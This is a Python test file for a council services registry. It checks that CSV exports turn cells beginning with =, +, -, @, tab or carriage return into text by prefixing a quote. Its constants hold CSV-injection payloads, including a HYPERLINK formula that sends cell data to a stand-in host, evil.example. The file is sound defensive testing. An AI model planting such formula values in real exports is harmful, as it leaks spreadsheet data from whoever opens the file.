"""CSV exports cannot carry formulas: a cell a spreadsheet would run is written as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from registry.accounts.models import User
from registry.accounts.services import hash_password
from registry.councils import services as councils
from registry.extensions import db
from registry.formatting import CsvWriter
from registry.providers.models import ServiceType
from tests.conftest import PASSWORD, signed_in

REGISTRY = Path(__file__).resolve().parents[2] / "registry"
# An address the app's own forms accept (= is allowed before the @), and a service name an admin may type.
FORMULA_EMAIL = "=cmd@example.com"
FORMULA_SERVICE = '=HYPERLINK("https://evil.example/?d="&A2,"Cleaning")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+44 113 496 0000", "'+44 113 496 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Personal care", "Personal care"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_starting_like_a_formula_is_written_as_text(value, written):
    out = io.StringIO()
    CsvWriter(out).writerow([value, 15, -3])
    assert _rows(out.getvalue()) == [[written, "15", "-3"]]  # numbers the registry writes stay numbers


def test_every_csv_export_writes_through_the_one_helper():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    users = [p.relative_to(REGISTRY).as_posix() for p in REGISTRY.rglob("*.py") if writers.search(p.read_text())]
    assert users == ["formatting.py"]


def _add_officer_through_the_admin_form(app, make_user, email):
    """The admin adds the account with the real form, so the address is one the app accepts."""
    admin = signed_in(app, make_user("admin"))
    response = admin.post("/admin/accounts", data={"name": "Eq Officer", "email": email, "role": "officer"})
    assert response.status_code == 302, response.get_data(as_text=True)
    with app.app_context():
        user = db.session.scalar(select(User).where(User.email == email))
        user.password_hash = hash_password(PASSWORD)  # as if they had followed the emailed link
        db.session.commit()


def test_an_email_starting_with_equals_is_text_in_the_audit_csv(app, make_user):
    _add_officer_through_the_admin_form(app, make_user, FORMULA_EMAIL)
    officer = signed_in(app, FORMULA_EMAIL)
    response = officer.get("/officer/audit.csv?action=audit.exported")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _rows(response.get_data(as_text=True))
    actor = rows[0].index("actor_email")
    assert [row[actor] for row in rows[1:]] == ["'" + FORMULA_EMAIL]  # the export itself, by this officer


def test_a_service_name_starting_with_equals_is_text_in_the_coverage_csv(app, make_user):
    commissioner = make_user("recipient", email="commissioner@leeds.example")
    with app.app_context():
        service = db.session.scalar(select(ServiceType).where(ServiceType.slug == "cleaning"))
        service_id, description = service.id, service.description
        council = councils.create_council("Leeds City Council", "council", ["LS6"])
        councils.make_commissioner(db.session.scalar(select(User).where(User.email == commissioner)), council)
        db.session.commit()
    admin = signed_in(app, make_user("admin"))
    renamed = admin.post(f"/admin/services/{service_id}", data={"name": FORMULA_SERVICE, "description": description})
    assert renamed.status_code == 302

    response = signed_in(app, commissioner).get("/council/coverage.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _rows(response.get_data(as_text=True))
    assert ["LS6", "'" + FORMULA_SERVICE, "0", "", ""] in rows
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
